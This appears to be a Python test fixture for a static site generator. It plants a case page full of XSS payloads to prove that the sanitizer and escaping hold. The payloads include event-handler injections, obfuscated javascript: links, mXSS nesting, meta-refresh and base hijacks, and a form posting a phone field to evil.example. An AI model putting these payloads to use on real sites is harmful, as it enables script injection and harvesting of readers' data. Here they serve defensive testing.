"""Hostile content for the safety tests: a case body holding every trick that once reached a
reader's browser, and names that try to break out of the page's markup.

``checked_away`` builds such content the way ``build`` does after its check, without the
check's refusal (``generator.build.publish``): what is proved is that the sanitizer, the
escaping and the output guard hold even when the check is bypassed. The CLI has no such path.
"""

from __future__ import annotations

from pathlib import Path

import sitebuild
from generator import build, checks

CASE = "typical-cases/scjg/scjg-2024-01.md"
CASE_PAGE = "cases/scjg-2024-01.html"
EVIL = "evil.example"

# Each line is one trick (the lines are joined into the case's 基本案情 section).
TRICKS = [
    "事件属性<img/onerror=alert(1) src=x>不加空格。",
    '大写<IMG SRC=x ONERROR="alert(2)">事件。',
    "[实体编码的链接](javascript&#58;alert(3))",
    '<a href="java&#x09;script:alert(4)">制表符拆开的链接</a>',
    "[参考式链接][恶意]",
    '段落之后的属性列表 {: onmouseover="alert(5)" }',
    "![远程图片](https://" + EVIL + "/pixel.gif?reader=1)",
    "![协议相对的图片](//" + EVIL + "/pixel.gif)",
    '<video src="https://' + EVIL + '/v.mp4" autoplay></video>',
    '<span style="background:url(https://' + EVIL + '/css.gif)">样式中的远程图片</span>',
    '<svg onload="alert(6)"><circle r="9"></circle></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(7)></style></mglyph></table></mtext></math>',
    '<form action="https://' + EVIL + '/collect"><input name="phone" autofocus onfocus="alert(8)"><button>提交</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://' + EVIL + '/">',
    '<base href="https://' + EVIL + '/">',
    '<iframe srcdoc="&lt;script&gt;alert(9)&lt;/script&gt;"></iframe>',
    '<object data="https://' + EVIL + '/x.swf"></object><embed src="https://' + EVIL + '/x.swf">',
    "<script>alert(10)</script>",
    '<details open ontoggle="alert(11)"><summary>展开</summary>内容</details>',
    '<a href="http://' + EVIL + '/">明文链接</a>',
    '<p id="__drawer" class="md-header">冒充页面元素</p>',
]
DEFINITION = "[恶意]: javascript:alert(12)"


def write_hostile_case(root: Path) -> None:
    path = root / CASE
    text = path.read_text(encoding="utf-8")
    head, marker, rest = text.partition("## 基本案情\n\n")
    assert marker, "the sample case has a 基本案情 section"
    path.write_text(head + marker + "\n\n".join(TRICKS) + "\n\n" + rest + "\n" + DEFINITION + "\n", encoding="utf-8")


def checked_away(root: Path, out: Path) -> build.BuildResult:
    """Build ``root`` into ``out`` though its check has errors (the findings are ignored)."""
    loaded, settings, findings = checks.run(root)
    assert loaded is not None and settings is not None, findings
    return build.publish(root, loaded, settings, findings, out)


def hostile_site(base: Path) -> tuple[Path, Path]:
    """The sample content with the hostile case body, built past its check: (root, out)."""
    root = sitebuild.copy_content(base / "repo")
    write_hostile_case(root)
    out = base / "site"
    result = checked_away(root, out)
    assert result.ok, result.unsafe or result.findings
    return root, out
